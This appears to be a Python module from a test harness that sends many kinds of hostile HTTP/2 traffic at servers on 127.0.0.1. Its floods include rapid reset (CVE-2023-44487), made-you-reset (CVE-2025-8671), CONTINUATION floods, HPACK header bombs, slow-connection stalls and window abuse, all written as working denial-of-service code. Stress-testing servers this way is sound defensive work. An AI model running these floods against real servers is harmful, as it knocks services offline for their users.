"""The kinds of hostile HTTP/2 clients.

Each kind is a generator function: it gets a function that connects and the random numbers of the run, and yields the
number of units (frames, streams, connections) of each step. Between two steps the caller looks at the clock.
"""

import socket
import time

import hpack
from hyperframe import frame as frames

from frames import PREFACE, Attacker, head, headers, raw, update

GET = head("/")
POST = head("/", "POST")
LARGE = head("/large")
# Units sent in one write, so that the attacker is not slower than the servers.
BATCH = 50


def floods(make, settings=None):
    """An attack that writes the bytes of `make(connection)` for ever, and connects again when it is cut off."""
    def attack(port, _random):
        connection = Attacker(port, settings)
        while True:
            units, data = make(connection)
            if connection.send(data):
                yield units, 0
            else:
                yield units, 1
                connection = Attacker(port, settings)
    return attack


def rapid_reset(c):
    """CVE-2023-44487: a request and its reset."""
    out = b""
    for _ in range(BATCH):
        stream = c.next_stream()
        out += headers(stream, GET, "END_HEADERS", "END_STREAM") + frames.RstStreamFrame(stream, 8).serialize()
    return BATCH, out


def made_you_reset(c):
    """CVE-2025-8671: a request, and a frame that makes the server reset it."""
    out = b""
    for kind in range(BATCH):
        stream = c.next_stream()
        out += headers(stream, GET, "END_HEADERS", "END_STREAM")
        out += [
            update(stream, 0),
            frames.DataFrame(stream, b"late").serialize(),
            raw(2, 0, stream, stream.to_bytes(4, "big") + b"\x10"),
            update(stream, 0x7FFFFFFF),
        ][kind % 4]
    return BATCH, out


def stream_excess(c):
    """Requests far past the limit of streams."""
    return BATCH, b"".join(headers(c.next_stream(), POST, "END_HEADERS") for _ in range(BATCH))


def continuation(c):
    """CVE-2024-27316: a head that never ends."""
    out = b""
    if c.stream < 0:
        out += headers(c.next_stream(), GET, "END_STREAM")
    field = hpack.Encoder().encode([hpack.NeverIndexedHeaderTuple("x", "y" * 50)])
    return BATCH, out + raw(9, 0, c.stream, field) * BATCH


def empty_continuation(c):
    out = b""
    if c.stream < 0:
        out += headers(c.next_stream(), GET, "END_STREAM")
    return BATCH, out + raw(9, 0, c.stream) * BATCH


def settings_flood(c):
    return BATCH, frames.SettingsFrame(0, settings={1: 4096, 4: 65535, 5: 16384}).serialize() * BATCH


def table_size_flood(c):
    """Settings that resize the table of the server's encoder, each with a request."""
    out = b""
    for size in range(BATCH):
        out += frames.SettingsFrame(0, settings={1: size % 2 * 4096}).serialize()
        out += headers(c.next_stream(), GET, "END_HEADERS", "END_STREAM")
    return BATCH, out


def ping_flood(c):
    return BATCH, frames.PingFrame(0, b"flooding").serialize() * BATCH


def priority_flood(c):
    return BATCH, b"".join(raw(2, 0, 2 * n + 1, (2 * n + 3).to_bytes(4, "big") + b"\x05") for n in range(BATCH))


def unknown_frames(c):
    return BATCH, raw(0x42, 0, 0, b"?" * 16) * BATCH


def uploads(payload, flags=0):
    """An upload of frames that carry nothing."""
    def make(c):
        out = b"" if c.stream > 0 else headers(c.next_stream(), POST, "END_HEADERS")
        return BATCH, out + raw(0, flags, c.stream, payload) * BATCH
    return make


def one_byte_windows(c):
    """Windows that open by one byte, so that each byte of a response needs a frame."""
    out = b""
    if c.stream < 0:
        for _ in range(10):
            out += headers(c.next_stream(), LARGE, "END_HEADERS", "END_STREAM")
    return BATCH, out + b"".join(update(1 + 2 * (n % 10), 1) for n in range(BATCH))


def window_overflow(c):
    """A window beyond its maximum: each connection ends with an error."""
    return 1, update(0, 0x7FFFFFFF) * 2


def stream_id_misuse(c):
    """Even, falling and idle stream numbers: each connection ends with an error."""
    kind = c.socket.fileno() % 3
    return 1, [
        headers(2, GET, "END_HEADERS", "END_STREAM"),
        headers(5, GET, "END_HEADERS", "END_STREAM") + headers(3, GET, "END_HEADERS", "END_STREAM"),
        frames.DataFrame(7, b"idle").serialize(),
    ][kind]


def header_bomb(c):
    """A field of 4,000 bytes enters the table once, and each request names it 8,000 times."""
    entry = hpack.Encoder().encode([("x-bomb", "b" * 3900)])
    stream = c.next_stream()
    first = headers(stream, GET + (entry if stream == 1 else b""), "END_HEADERS", "END_STREAM")
    return 1, first + headers(c.next_stream(), GET + b"\xbe" * 8000, "END_HEADERS", "END_STREAM")


def cookie_crumbs(c):
    """Thousands of small cookies in one head."""
    crumb = hpack.Encoder().encode([hpack.NeverIndexedHeaderTuple("cookie", "")])
    return 1, headers(c.next_stream(), GET + crumb * 1500, "END_HEADERS", "END_STREAM")


def trailers_flood(c):
    """Uploads whose trailers have a hundred fields."""
    out = b""
    trailers = hpack.Encoder().encode([hpack.NeverIndexedHeaderTuple(f"t{n}", "v" * 20) for n in range(90)])
    for _ in range(10):
        stream = c.next_stream()
        out += headers(stream, POST, "END_HEADERS") + raw(0, 0, stream, b"x")
        out += headers(stream, trailers, "END_HEADERS", "END_STREAM")
    return 10, out


def held(many, begin, step, pause):
    """An attack by `many` connections at once, each of which does `step` again and again, slowly."""
    def attack(port, random):
        connections = [None] * many
        while True:
            for at, connection in enumerate(connections):
                if connection is None or not connection.open:
                    connections[at] = begin(port)
                    yield 1, 0 if connection is None else 1
                else:
                    step(connection, random)
            yield 0, 0
            time.sleep(pause)
    attack.waits = True
    return attack


class Bytes(Attacker):
    """A connection that has sent nothing."""

    def __init__(self, port):
        self.socket = socket.create_connection(("127.0.0.1", port), 2)
        self.open, self.stream, self.sent = True, -1, 0


def slow_preface(c, _):
    c.send(PREFACE[c.sent % 24:][:1])
    c.sent += 1


def begin_slow_head(port):
    c = Attacker(port)
    c.send(headers(c.next_stream(), GET, "END_STREAM"))
    return c


def slow_head(c, _):
    c.send(raw(9, 0, c.stream, hpack.Encoder().encode([hpack.NeverIndexedHeaderTuple("a", "b")])))


def begin_dribble(port):
    c = Attacker(port)
    body = head("/", "POST", [("content-length", "1000000")])
    c.send(b"".join(headers(c.next_stream(), body, "END_HEADERS") for _ in range(50)))
    return c


def dribble(c, random):
    c.send(frames.DataFrame(random.randrange(1, 101, 2), b"d").serialize())


def begin_stall(port):
    """A hundred responses of 4 MiB into windows that never open."""
    c = Attacker(port, {4: 0})
    c.send(b"".join(headers(c.next_stream(), LARGE, "END_HEADERS", "END_STREAM") for _ in range(100)))
    return c


def begin_unread(port):
    """A hundred responses of 4 MiB into windows without end, of which the client reads nothing."""
    c = Attacker(port, {4: 0x7FFFFFFF})
    c.socket.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    out = update(0, 0x7FFF0000 - 65535)
    c.send(out + b"".join(headers(c.next_stream(), LARGE, "END_HEADERS", "END_STREAM") for _ in range(100)))
    return c


def wait(c, _):
    """Looks whether the server has ended the connection, without taking anything."""
    try:
        c.socket.setblocking(False)
        if not c.socket.recv(1, socket.MSG_PEEK):
            c.close()
    except BlockingIOError:
        pass
    except OSError:
        c.close()


KINDS = {
    "rapid reset": floods(rapid_reset),
    "made-you-reset": floods(made_you_reset),
    "streams past the limit": floods(stream_excess),
    "CONTINUATION without end": floods(continuation),
    "empty CONTINUATION": floods(empty_continuation),
    "SETTINGS flood": floods(settings_flood),
    "SETTINGS of table sizes": floods(table_size_flood),
    "PING flood": floods(ping_flood),
    "PRIORITY flood": floods(priority_flood),
    "unknown frames": floods(unknown_frames),
    "empty DATA": floods(uploads(b"")),
    "padding alone": floods(uploads(b"\xff" + bytes(255), 8)),
    "one-byte window updates": floods(one_byte_windows, {4: 0}),
    "window overflow": floods(window_overflow),
    "stream number misuse": floods(stream_id_misuse),
    "header bomb": floods(header_bomb),
    "cookie crumbs": floods(cookie_crumbs),
    "trailers flood": floods(trailers_flood),
    "slow preface": held(200, Bytes, slow_preface, 0.2),
    "slow head": held(200, begin_slow_head, slow_head, 0.2),
    "data dribble": held(40, begin_dribble, dribble, 0.1),
    "zero-window stall": held(20, begin_stall, wait, 0.1),
    "unread responses": held(20, begin_unread, wait, 0.1),
}
